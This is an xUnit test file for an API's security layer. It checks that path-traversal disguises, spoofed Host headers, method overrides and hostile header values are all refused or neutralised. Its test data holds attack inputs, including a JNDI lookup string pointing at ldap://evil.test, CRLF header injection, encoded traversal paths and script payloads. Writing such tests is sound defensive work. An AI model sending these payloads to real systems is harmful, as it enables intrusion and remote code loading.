using Vae.Api.Security;
using Vae.Api.Tests.Support;
using Vae.Catalog.Keys;

namespace Vae.Api.Tests.Security;

/// <summary>Other ways to write a path, a method or a host lead to no handler past the door.</summary>
public sealed class PathTests
{
    private static readonly string[] Disguises =
    [
        "/{0}", "//{0}", "{0}/", "{0}//", "/.{0}", "/./{0}", "/x/..{0}", "/%2e{0}", "/x/%2e%2e{0}", "/healthz/..{0}", "/healthz/%2e%2e{0}", "/swagger/..{0}",
        "/swagger/%2E%2E{0}", "/app.js/..{0}", "/healthz%2f..{0}", "/healthz;{0}", "{0};x", "{0};/healthz", "{0}%00", "{0}%20", "{0}.", "{0}/.", "{0}%2f", "{0}%5c",
        "{0}?x=/healthz", "{0}#/healthz", "{0}%3f", "/\\{0}", "{0}.json", "{0}/index.html", "/openapi/..{0}", "/openapi/v1.json/..{0}",
        "http://localhost{0}", "http://localhost/healthz/..{0}", "{0}%252e", "/index.html{0}",
    ];

    [Fact]
    public async Task Disguise_ReachesNoHandler_WithoutAKey()
    {
        await using var server = await TestKeys.StartAsync();
        await TestKeys.MakeAsync(server, KeyScopes.Train);

        foreach (var (line, route) in TestKeys.Routes(server).Where(pair => pair.Route.Metadata.GetMetadata<RequiredScope>() is not null))
        {
            var (method, path) = (line.Split(' ')[0], TestKeys.PathOf(route));
            foreach (var target in Disguises.Select(disguise => string.Format(null, disguise, path)).Append(path.ToUpperInvariant()))
            {
                var answer = await RawHttp.SendAsync(server, $"{method} {target}");
                // 400 is Kestrel's, for what is no target at all; nothing else comes before the door.
                answer.Status.ShouldBeOneOf([400, 401], $"{method} {target}: {answer.Text}");
            }
        }
    }

    [Theory]
    [InlineData("TRACE /healthz")]
    [InlineData("TRACE /jobs")]
    [InlineData("TRACE /")]
    [InlineData("TRACK /app.js")]
    [InlineData("CONNECT localhost:80")]
    public async Task ConnectionMethods_AreRefusedEverywhere(string line)
    {
        await using var server = await TestKeys.StartAsync();

        var answer = await RawHttp.SendAsync(server, line, "Host: localhost:80", "X-Secret: unheard");

        answer.Status.ShouldBe(405, answer.Text);
        // No hexadecimal word: the trace id is one.
        answer.Text.ShouldNotContain("unheard");
    }

    [Fact]
    public async Task MethodOverride_ChangesNothing()
    {
        await using var server = await TestKeys.StartAsync();
        foreach (var header in (string[])["X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"])
        {
            (await RawHttp.SendAsync(server, "GET /train", $"{header}: POST")).ShouldBeProblem(405, "method-not-allowed");
            (await RawHttp.SendAsync(server, "GET /jobs/7/cancel", $"{header}: POST")).ShouldBeProblem(405, "method-not-allowed");
            (await RawHttp.SendAsync(server, "GET /train?_method=POST")).ShouldBeProblem(405, "method-not-allowed");
        }
    }

    [Theory]
    [InlineData("GET /healthz", "Host: evil.test", 400)]
    [InlineData("GET /healthz", "Host: localhost@evil.test", 400)]
    [InlineData("GET /healthz", "Host: evil.test#localhost", 400)]
    [InlineData("GET /healthz", "Host: localhost, evil.test", 400)]
    [InlineData("GET /healthz", "Host: 0.0.0.0", 400)]
    [InlineData("GET /healthz", "Host: ", 400)]
    [InlineData("GET http://evil.test/healthz", "Host: evil.test", 400)]
    [InlineData("GET http://evil.test/healthz", "Host: localhost", 400)]
    [InlineData("GET /healthz", "X-Forwarded-Host: evil.test", 200)]
    [InlineData("GET /healthz", "Forwarded: host=evil.test", 200)]
    [InlineData("GET /healthz", "X-Original-URL: /jobs", 200)]
    [InlineData("GET /nothing", "X-Rewrite-URL: /healthz", 404)]
    public async Task Host_IsTheOneThatWasAsked(string line, string header, int status)
    {
        await using var server = await TestKeys.StartAsync();
        var answer = await RawHttp.SendAsync(server, line, header);
        answer.Status.ShouldBe(status, answer.Text);
        answer.Text.ShouldNotContain("evil");
    }

    [Fact]
    public async Task TwoHosts_AreNone()
    {
        await using var server = await TestKeys.StartAsync();
        (await RawHttp.SendAsync(server, "GET /healthz", "Host: localhost", "Host: evil.test")).Status.ShouldBe(400);
    }

    [Fact]
    public async Task HostileHeaders_AreAnsweredAsAnyOther()
    {
        await using var server = await TestKeys.StartAsync();
        foreach (var header in (string[])
        [
            "User-Agent: ${jndi:ldap://evil.test/a}", "User-Agent: \u001b[2J\u001b]0;owned\u0007", "traceparent: 00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-zz",
            "traceparent: ${jndi:x}", $"traceparent: {new string('0', 4000)}", "tracestate: a=\"<script>\"", "baggage: x=%0d%0aInjected:1", "Referer: javascript:alert(1)",
        ])
        {
            (await RawHttp.SendAsync(server, "GET /healthz", header)).Status.ShouldBe(200, header);
            var problem = await RawHttp.SendAsync(server, "GET /nothing", header);
            problem.ShouldBeProblem(404, "not-found");
            problem.Json.GetProperty("traceId").GetString()!.ShouldMatch("^[0-9a-f]{32}$", header);
            problem.Headers.ContainsKey("Injected").ShouldBeFalse();
        }
    }
}
